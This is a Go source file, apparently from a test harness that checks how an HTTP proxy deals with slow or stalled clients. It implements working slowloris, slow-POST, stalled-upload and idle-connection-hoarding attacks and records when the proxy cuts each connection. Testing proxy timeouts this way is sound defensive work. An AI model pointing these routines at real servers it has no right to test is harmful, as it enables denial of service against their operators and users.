package attack

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// StallResult is when the proxy ended a connection whose upload stopped.
type StallResult struct {
	// Cut says the proxy ended the connection (answer, close or reset)
	// within the bound; CutMs is how long after the upload's last
	// progress.
	Cut   bool    `json:"cut"`
	CutMs float64 `json:"cut_ms_after_last_progress"`
	// Status is the answer's status, 0 when the connection just ended.
	Status int `json:"status"`
	// SentBytes is how much of the body the client got out.
	SentBytes int64  `json:"sent_bytes"`
	How       string `json:"how"`
	Error     string `json:"error,omitempty"`
}

// connWatch reads what the proxy sends on c and reports when the
// connection ends, with the status of an answer if one came first.
func connWatch(c net.Conn) (done chan struct{}, status *atomic.Int64, at *atomic.Int64) {
	done = make(chan struct{})
	status, at = &atomic.Int64{}, &atomic.Int64{}
	go func() {
		defer close(done)
		br := bufio.NewReader(c)
		resp, err := http.ReadResponse(br, nil)
		if err == nil {
			status.Store(int64(resp.StatusCode))
			_, _ = io.Copy(io.Discard, resp.Body)
			_ = resp.Body.Close()
		}
		at.Store(time.Now().UnixNano())
	}()
	return done, status, at
}

// StalledUpload sends the head of a POST to path with a Content-Length of
// declared bytes and the first sent bytes of the body, then nothing, and
// waits (at most bound) for the proxy to end the connection.
func StalledUpload(ctx context.Context, addr, path string, declared, sent int, bound time.Duration) StallResult {
	var res StallResult
	c, err := dialMaybeTLS(ctx, addr, false)
	if err != nil {
		res.Error = err.Error()
		return res
	}
	defer c.Close()
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: reliability.test\r\nContent-Length: %d\r\n\r\n", path, declared)
	if _, err := io.WriteString(c, head); err != nil {
		res.Error = err.Error()
		return res
	}
	if _, err := c.Write(make([]byte, sent)); err != nil {
		res.Error = err.Error()
		return res
	}
	last := time.Now()
	res.SentBytes = int64(sent)
	done, status, at := connWatch(c)
	select {
	case <-done:
		res.Cut, res.How = true, "closed"
		res.CutMs = Ms(time.Unix(0, at.Load()).Sub(last))
		res.Status = int(status.Load())
	case <-time.After(bound):
		res.How = "not cut"
	case <-ctx.Done():
		res.How = "interrupted"
	}
	return res
}

// NeverReadUpload POSTs a body of total bytes to path (a real server that
// reads the head and never the body), writing as fast as the proxy takes
// it, and measures how long after its last progress the proxy ends the
// connection (at most bound).
func NeverReadUpload(ctx context.Context, addr, path string, total int64, bound time.Duration) StallResult {
	var res StallResult
	c, err := dialMaybeTLS(ctx, addr, false)
	if err != nil {
		res.Error = err.Error()
		return res
	}
	defer c.Close()
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: reliability.test\r\nContent-Length: %d\r\n\r\n", path, total)
	if _, err := io.WriteString(c, head); err != nil {
		res.Error = err.Error()
		return res
	}
	done, status, at := connWatch(c)
	chunk := make([]byte, 64<<10)
	last := time.Now()
	for res.SentBytes < total && time.Since(last) < bound && ctx.Err() == nil {
		select {
		case <-done:
			res.Cut, res.How = true, "closed"
			res.CutMs = Ms(time.Unix(0, at.Load()).Sub(last))
			res.Status = int(status.Load())
			return res
		default:
		}
		_ = c.SetWriteDeadline(time.Now().Add(50 * time.Millisecond))
		n, err := c.Write(chunk[:min(int64(len(chunk)), total-res.SentBytes)])
		if n > 0 {
			res.SentBytes += int64(n)
			last = time.Now()
		}
		if err != nil {
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				continue
			}
			res.Cut, res.How = true, "write error: "+ErrKind(err)
			res.CutMs = Ms(time.Since(last))
			select {
			case <-done:
				res.Status = int(status.Load())
			case <-time.After(100 * time.Millisecond):
			}
			return res
		}
	}
	select {
	case <-done:
		res.Cut, res.How = true, "closed"
		res.CutMs = Ms(time.Unix(0, at.Load()).Sub(last))
		res.Status = int(status.Load())
	default:
		res.How = "not cut"
	}
	return res
}

// SlowResult summarises a slowloris or slow-POST attack.
type SlowResult struct {
	Opened     int `json:"opened"`
	DialErrors int `json:"dial_errors"`
	// Cut is the number of connections the proxy ended before the end
	// of the attack; CutP50s and CutMaxS are when, in seconds after the
	// connection's first byte.
	Cut     int     `json:"cut"`
	CutP50s float64 `json:"cut_p50_s"`
	CutMaxS float64 `json:"cut_max_s"`
	// StillOpen is the number held to the end of the attack.
	StillOpen int `json:"still_open"`
	// Statuses counts the answers the proxy sent before ending them.
	Statuses map[int]int `json:"statuses,omitempty"`
}

// Slowloris opens conns connections to addr, each sending a request head
// one header line every interval and never finishing it, for d.
func Slowloris(ctx context.Context, addr string, conns int, interval, d time.Duration) SlowResult {
	head := "GET /slowloris HTTP/1.1\r\nHost: reliability.test\r\n"
	return slow(ctx, addr, conns, interval, d, head, []byte("X-Slow: a\r\n"))
}

// SlowPOST opens conns connections to addr, each sending a POST with a
// 1 MB Content-Length and then one body byte every interval, for d.
func SlowPOST(ctx context.Context, addr, path string, conns int, interval, d time.Duration) SlowResult {
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: reliability.test\r\nContent-Length: 1000000\r\n\r\n", path)
	return slow(ctx, addr, conns, interval, d, head, []byte("a"))
}

func slow(ctx context.Context, addr string, conns int, interval, d time.Duration, head string, drip []byte) SlowResult {
	ctx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	res := SlowResult{Statuses: map[int]int{}}
	var mu sync.Mutex
	var cuts []time.Duration
	var wg sync.WaitGroup
	sem := make(chan struct{}, 64) // dials at once
	for i := range conns {
		if ctx.Err() != nil {
			break
		}
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := dialMaybeTLS(ctx, addr, false)
			<-sem
			if err != nil {
				mu.Lock()
				res.DialErrors++
				mu.Unlock()
				return
			}
			defer c.Close()
			start := time.Now()
			mu.Lock()
			res.Opened++
			mu.Unlock()
			done, status, _ := connWatch(c)
			_, err = io.WriteString(c, head)
			// spread the drips of the connections over the interval
			tick := time.NewTimer(interval * time.Duration(i%16+1) / 16)
			defer tick.Stop()
			for err == nil {
				select {
				case <-ctx.Done():
					mu.Lock()
					res.StillOpen++
					mu.Unlock()
					return
				case <-done:
					err = errors.New("closed")
				case <-tick.C:
					_ = c.SetWriteDeadline(time.Now().Add(interval))
					_, err = c.Write(drip)
					tick.Reset(interval)
				}
			}
			select {
			case <-done:
			case <-time.After(200 * time.Millisecond):
			}
			mu.Lock()
			cuts = append(cuts, time.Since(start))
			res.Cut++
			if s := int(status.Load()); s != 0 {
				res.Statuses[s]++
			}
			mu.Unlock()
		}()
	}
	wg.Wait()
	if len(cuts) > 0 {
		slices.Sort(cuts)
		res.CutP50s = Percentile(cuts, 50).Seconds()
		res.CutMaxS = cuts[len(cuts)-1].Seconds()
	}
	return res
}

// IdleConns opens n keep-alive connections to addr, sends GET / on each
// and reads the answer, and returns the connections held open (the
// caller closes them) and the number that failed.
func IdleConns(ctx context.Context, addr string, n, parallel int) ([]net.Conn, int) {
	var mu sync.Mutex
	var held []net.Conn
	failed := 0
	var wg sync.WaitGroup
	next := atomic.Int64{}
	for range max(1, parallel) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				if int(next.Add(1)) > n {
					return
				}
				c, err := idleOne(ctx, addr)
				mu.Lock()
				if err != nil {
					failed++
				} else {
					held = append(held, c)
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	return held, failed
}

func idleOne(ctx context.Context, addr string) (net.Conn, error) {
	c, err := dialMaybeTLS(ctx, addr, false)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: reliability.test\r\n\r\n"); err != nil {
		_ = c.Close()
		return nil, err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		_ = c.Close()
		return nil, err
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	_ = resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		_ = c.Close()
		return nil, errors.New("status " + strconv.Itoa(resp.StatusCode))
	}
	_ = c.SetDeadline(time.Time{})
	return c, nil
}
